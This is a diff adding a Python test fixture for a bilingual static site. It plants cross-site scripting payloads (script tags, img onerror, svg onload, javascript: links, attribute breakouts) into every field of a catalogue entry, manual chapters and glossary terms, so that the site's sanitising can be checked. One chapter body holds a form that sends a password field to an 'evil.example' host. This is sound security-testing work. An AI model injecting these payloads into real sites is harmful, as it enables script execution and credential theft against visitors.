@@ -1,0 +1,143 @@
+"""Hostile content for security tests: a payload in every string field of an entry, of a chapter's
+front matter and of the glossary, plus raw HTML in a chapter's Markdown (resources on this site only:
+a remote one fails the build, which tests/test_hostile.py checks on its own).
+
+`plant(project)` writes it into a copy of the project; `PAGES` lists the pages that show it.
+Every payload carries a marker (`PWN`) so that a test can tell whether it reached a page as markup.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import yaml
+
+MARK = "PWN"
+
+
+def payload(n: int) -> str:
+    """A string that runs script in three contexts: element content, an attribute, and `<title>`.
+
+    The image has an empty `src` (its error handler fires at once): a relative `src=x` that survived
+    sanitising would be a broken image, which the PDF build rightly reports.
+    """
+    return f'"><img src onerror=alert({n})>{MARK}{n}</title><script>alert({n})</script><svg/onload=alert({n})>'
+
+
+def url_payload(n: int) -> str:
+    """A URL that the schema accepts (no spaces) but that breaks out of an attribute."""
+    return f'https://x.example/"><svg/onload=alert({n})>{MARK}{n}'
+
+
+ENTRY_ID = "hostile-entry"
+CHAPTER = "manuals/psn/10-hostile.md"
+
+
+def hostile_entry() -> dict:
+    """An entry that validates and carries a payload in every free-text field."""
+    counter = iter(range(100, 1000))
+
+    def text() -> dict[str, str]:
+        return {"pl": payload(next(counter)), "en": payload(next(counter))}
+
+    def md() -> dict[str, str]:
+        body = (
+            "Tekst [link](javascript:alert(1)) <iframe src='frame.html'></iframe>\n\n"
+            "<a href='javascript:alert(2)'>x</a> <b onclick=alert(3)>b</b>"
+        )
+        first, second = text()["pl"], text()["en"]
+        return {"pl": f"{first}\n\n{body}", "en": f"{second}\n\n{body}"}
+
+    return {
+        "id": ENTRY_ID,
+        "title": text(),
+        "summary": text(),
+        "status": "ongoing",
+        "period": {"start": "2020-01", "end": "2021"},
+        "implementer": {"name": payload(next(counter)), "actor_type": "ngo", "url": url_payload(next(counter))},
+        "partners": [{"name": payload(next(counter)), "actor_type": "municipality", "country": "PL"}],
+        "target_groups": ["minors"],
+        "themes": ["education"],
+        "geo": {"level": "local", "voivodeships": ["PL-22"], "city": payload(next(counter)), "countries": ["PL"]},
+        "funding": [{"source": "other", "programme": payload(next(counter)), "amount_eur": 1000}],
+        "project_number": payload(next(counter)),
+        "description": md(),
+        "how_it_works": md(),
+        "results_text": md(),
+        "transferability": md(),
+        "lessons": md(),
+        "results": [{"label": text(), "value": 12, "unit": text(), "qualifier": "about"}],
+        "part_of": "avr-project",
+        "contact": {
+            "organisation": payload(next(counter)),
+            "url": url_payload(next(counter)),
+            "email": f'"><svg/onload=alert({next(counter)})>@x.pl',
+        },
+        "sources": [{"title": payload(next(counter)), "url": url_payload(next(counter)), "accessed": "2026-01-01"}],
+        "last_reviewed": "2026-01-01",
+    }
+
+
+CHAPTER_BODY = """
+## Sekcja {p1}
+
+Zwykły tekst z <script>alert(11)</script> i <img src onerror=alert(12)>.
+
+<iframe src="frame.html"></iframe>
+
+[kliknij](javascript:alert(13)) <a href="javascript:alert(14)">a</a> <b onmouseover=alert(15)>b</b>
+
+<div style="background:url(bg.png)" onclick="alert(16)">styled</div>
+
+<form action="https://evil.example/"><input name="password"></form>
+
+<p id="__config">{{"base": "https://evil.example"}}</p>
+
+!!! note "{p2}"
+    Treść uwagi.
+
+| a | b |
+|---|---|
+| {p3} | x |
+"""
+
+
+def plant(project: Path) -> None:
+    """Write the hostile entry, a hostile chapter (both languages) and a hostile glossary term."""
+    entry = project / "practices" / f"{ENTRY_ID}.yml"
+    entry.write_text(yaml.safe_dump(hostile_entry(), allow_unicode=True, sort_keys=False), encoding="utf-8")
+    for suffix, n in (("", 200), (".en", 300)):
+        front = {
+            "title": payload(n),
+            "last_reviewed": "2026-01-01",
+            "audience": payload(n + 1),
+            "related": {"target_groups": ["minors"]},
+        }
+        body = CHAPTER_BODY.format(p1=payload(n + 2), p2=payload(n + 3), p3=payload(n + 4))
+        path = project / CHAPTER.replace(".md", f"{suffix}.md")
+        path.write_text("---\n" + yaml.safe_dump(front, allow_unicode=True) + "---\n" + body, encoding="utf-8")
+    glossary = project / "data" / "glossary.yml"
+    terms = yaml.safe_load(glossary.read_text(encoding="utf-8"))
+    terms.append(
+        {
+            "term": {"pl": payload(400), "en": payload(401)},
+            "abbr": True,
+            "expansion": {"pl": payload(402), "en": payload(403)},
+            "definition": {"pl": payload(404), "en": payload(405)},
+            "source": payload(406),
+        }
+    )
+    glossary.write_text(yaml.safe_dump(terms, allow_unicode=True, sort_keys=False), encoding="utf-8")
+
+
+# Pages that show the payloads, without the language prefix.
+PAGES = [
+    f"practices/{ENTRY_ID}/",
+    "practices/avr-project/",  # lists the entry as a component
+    "practices/",  # the catalogue
+    "",  # home: newest practices
+    "manuals/psn/10-hostile/",
+    "manuals/psn/",  # landing lists the chapter; the nav shows its title
+    "manuals/psn/01-who-is-vulnerable/",  # nav shows the hostile chapter's title
+    "glossary/",
+]
